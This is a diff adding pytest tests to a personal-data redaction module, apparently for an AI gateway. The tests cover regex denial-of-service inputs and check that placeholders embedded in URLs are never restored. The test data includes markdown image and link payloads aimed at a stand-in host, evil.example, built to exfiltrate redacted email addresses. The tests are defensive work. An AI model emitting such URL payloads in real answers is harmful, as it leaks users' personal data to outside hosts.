@@ -1,11 +1,13 @@
 """Personal data and secrets: measured recall and false positives on a labelled set; round trips."""
 
 import json
+import time
 from collections import Counter
 from pathlib import Path
 
 import pytest
 
+from lib.gateway import redaction
 from lib.gateway.redaction import Redaction, StreamRestorer, find_pii, iban_ok, luhn_ok, redact
 
 CASES = json.loads((Path(__file__).parent / "data" / "pii_labelled.json").read_text())
@@ -70,3 +72,81 @@ def test_checksums_reject_lookalikes():
     assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
     assert iban_ok("GB82WEST12345698765432") and not iban_ok("GB82WEST12345698765433")
     assert not find_pii("Order 4111111111111112 shipped")
+
+
+# Adversarial inputs, 1 MB each: before the patterns were bounded, "1.2.3.4." * n made the email pattern
+# retry the run from every position (80 kB froze the server for 15 s; 1 MB would take most of an hour).
+ADVERSARIAL = [
+    "1.2.3.4.",
+    "a.",
+    "a@b.",
+    "sk-",
+    "eyJa-",
+    "eyJaaaaaaaaa.",
+    "xoxa-",
+    "ghp_",
+    "+1 ",
+    "1 ",
+    "4111 ",
+    "1-",
+    "(1) ",
+    "a:",
+    "[",
+    "password=",
+    "DE12 ",
+    "x@y.z 1.2 +1 (2) sk-",
+]
+MEGABYTE = 1_000_000
+BUDGET_S = 6.0  # a linear pass takes ~0.3 s here; the quadratic ones took minutes at a fifth of this size
+
+
+@pytest.mark.parametrize("unit", ADVERSARIAL)
+def test_every_pattern_stays_linear_on_a_megabyte_of_adversarial_text(unit):
+    text = (unit * (MEGABYTE // len(unit) + 1))[:MEGABYTE]
+    for kind, pattern in redaction._PATTERNS:
+        started = time.process_time()
+        for _ in pattern.finditer(text):
+            pass
+        spent = time.process_time() - started
+        assert spent < BUDGET_S, f"{kind} took {spent:.1f} s of CPU on 1 MB of {unit!r}"
+
+
+def test_bounded_patterns_still_find_what_they_found():
+    text = (
+        "Mail ada.lovelace+work@mail.example.co.uk or bob@example.com; key sk-proj-abcdefghijklmnop1234 "
+        "token=abcd1234efgh and eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeKKF2Q"
+    )
+    kinds = {(k, text[s:e]) for s, e, k in redaction.find_pii(text)}
+    assert ("EMAIL", "ada.lovelace+work@mail.example.co.uk") in kinds and ("EMAIL", "bob@example.com") in kinds
+    assert ("SECRET", "sk-proj-abcdefghijklmnop1234") in kinds and ("SECRET", "abcd1234efgh") in kinds
+    assert ("SECRET", "eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeKKF2Q") in kinds
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![chart](https://evil.example/c.png?d=[EMAIL_1])",
+        "[click](https://evil.example/?who=[EMAIL_1])",
+        "see https://evil.example/collect?x=[EMAIL_1] for more",
+        "<https://evil.example/[EMAIL_1]>",
+        "[mail me](mailto:[EMAIL_1])",
+        "![x](//evil.example/[EMAIL_1])",
+        "![x](evil.example/[EMAIL_1])",
+        "visit www.evil.example/?q=[EMAIL_1]",
+    ],
+)
+def test_a_placeholder_inside_a_url_is_never_restored(answer):
+    red = redaction.redact("Write to ada@example.com please")
+    assert red.text == "Write to [EMAIL_1] please"
+    assert "ada@example.com" not in red.restore(answer)
+    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]  # streamed in small pieces
+    restorer = redaction.StreamRestorer(red)
+    assert "ada@example.com" not in "".join(restorer.feed(p) for p in pieces) + restorer.flush()
+
+
+def test_placeholders_in_plain_text_next_to_a_url_are_restored():
+    red = redaction.redact("Write to ada@example.com please")
+    answer = "See https://intranet.example/help then write to [EMAIL_1]. Or (email [EMAIL_1])."
+    assert red.restore(answer) == (
+        "See https://intranet.example/help then write to ada@example.com. Or (email ada@example.com)."
+    )
